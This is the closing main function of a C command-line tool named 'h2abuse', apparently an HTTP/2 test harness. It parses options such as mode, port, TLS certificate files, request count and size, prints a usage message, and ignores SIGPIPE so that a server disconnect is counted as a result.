{
    opts o;

    if (parse_args(&o, argc, argv) != 0 || o.cert == NULL || o.key == NULL || o.cacert == NULL) {
        fprintf(stderr, "usage: h2abuse MODE --port N --cert F --key F --cacert F [--host H]\n"
                        "       [--count N] [--seconds S] [--path P] [--size BYTES] "
                        "[--wait MS] [--no-length]\n");
        return EXIT_SETUP;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    signal(SIGPIPE, SIG_IGN); /* a server that hung up is a result, not a crash */
    return run(&o);
}
